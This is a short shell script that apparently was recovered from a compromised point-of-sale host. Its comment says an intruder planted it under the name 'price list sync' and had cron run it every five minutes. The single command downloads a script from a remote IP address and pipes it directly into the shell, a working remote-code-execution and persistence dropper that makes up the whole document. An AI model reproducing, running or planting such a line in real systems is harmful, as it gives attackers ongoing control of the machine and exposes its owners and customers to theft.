#!/bin/sh
# "price list sync" -- dropped by the intruder, started every 5 minutes from /etc/cron.d/pos-sync
curl -fsS http://203.0.113.50/p/u.sh | sh
